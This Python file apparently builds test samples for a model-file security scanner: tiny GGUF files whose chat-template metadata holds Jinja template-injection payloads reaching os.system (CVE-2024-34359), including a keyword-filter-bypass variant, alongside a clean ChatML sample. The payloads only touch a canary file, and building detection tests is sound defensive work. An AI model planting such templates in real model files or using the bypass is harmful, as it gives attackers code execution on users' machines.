"""GGUF models and their chat templates."""

from __future__ import annotations

import struct
from pathlib import Path

from trainwarden.drill._scan_corpus._base import _bytes_sample, _Clean, _Mal, _write


def gguf_bytes(kv: dict[str, str | int]) -> bytes:
    """A GGUF v3 file with no tensors and the given string/uint32 metadata (per the GGUF spec)."""
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(kv))
    for k, v in kv.items():
        kb = k.encode()
        out += struct.pack("<Q", len(kb)) + kb
        if isinstance(v, int):
            out += struct.pack("<II", 4, v)
        else:
            vb = v.encode()
            out += struct.pack("<IQ", 8, len(vb)) + vb
    return out


def _gguf_ssti(c: Path) -> bytes:
    tmpl = (
        "{% for x in ().__class__.__base__.__subclasses__() %}"
        "{% if 'warning' in x.__name__ %}"
        "{{ x()._module.__builtins__['__import__']('os').system('touch " + str(c) + "') }}"
        "{% endif %}{% endfor %}"
    )
    return gguf_bytes(
        {
            "general.architecture": "llama",
            "general.name": "tiny",
            "general.alignment": 32,
            "tokenizer.chat_template": tmpl,
        }
    )


def _gguf_named_template(c: Path) -> bytes:
    tmpl = (
        "{% for x in ().__class__.__base__.__subclasses__() %}"
        "{% if 'warning' in x.__name__ %}"
        "{{ x()._module.__builtins__['__import__']('os').system('touch " + str(c) + "') }}"
        "{% endif %}{% endfor %}"
    )
    return gguf_bytes(
        {
            "general.architecture": "llama",
            "tokenizer.chat_template": "{{ messages[0]['content'] }}",
            "tokenizer.chat_template.tool_use": tmpl,
        }
    )


def _gguf_obfuscated(c: Path) -> bytes:
    # No dunder appears literally: names are concatenated and reached through the attr filter.
    tmpl = (
        "{% set b = (()|attr('__cla'~'ss__'))|attr('__ba'~'se__') %}"
        "{% for x in (b|attr('__subcla'~'sses__'))() %}"
        "{% if 'warn' in (x|attr('__na'~'me__')) %}"
        "{{ ((x()|attr('_mod'~'ule')|attr('__buil'~'tins__'))['__imp'~'ort__']('o'~'s')"
        "|attr('sys'~'tem'))('touch " + str(c) + "') }}"
        "{% endif %}{% endfor %}"
    )
    return gguf_bytes({"general.architecture": "llama", "tokenizer.chat_template": tmpl})


def _gguf_clean(path: Path) -> None:
    chatml = (
        "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + "
        "message['content'] + '<|im_end|>' + '\n'}}{% endfor %}"
        "{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"
    )
    _write(
        path,
        gguf_bytes(
            {
                "general.architecture": "llama",
                "general.name": "tiny",
                "general.alignment": 32,
                "tokenizer.chat_template": chatml,
            }
        ),
    )


def malicious() -> list[_Mal]:
    """The malicious samples of this family."""
    b = _bytes_sample
    return [
        _Mal(
            "gguf_chat_template_ssti",
            ".gguf",
            "Jinja chat template reaching __subclasses__/os",
            "CVE-2024-34359 (llama-cpp-python 'Llama Drama')",
            b(_gguf_ssti),
            trigger="jinja",
        ),
        _Mal(
            "gguf_named_chat_template_ssti",
            ".gguf",
            "SSTI in tokenizer.chat_template.tool_use",
            "CVE-2024-34359; GGUF named chat templates",
            b(_gguf_named_template),
            trigger="jinja:tokenizer.chat_template.tool_use",
        ),
        _Mal(
            "gguf_chat_template_obfuscated_attr",
            ".gguf",
            "SSTI with no literal dunder: |attr() and string concatenation",
            "CVE-2024-34359 (keyword-filter bypass)",
            b(_gguf_obfuscated),
            trigger="jinja",
        ),
    ]


def clean() -> list[_Clean]:
    """The clean samples of this family (written by the real libraries)."""
    return [
        _Clean(
            "gguf_chatml_template",
            ".gguf",
            "GGUF v3 metadata with the ChatML template (spec writer)",
            _gguf_clean,
        ),
    ]
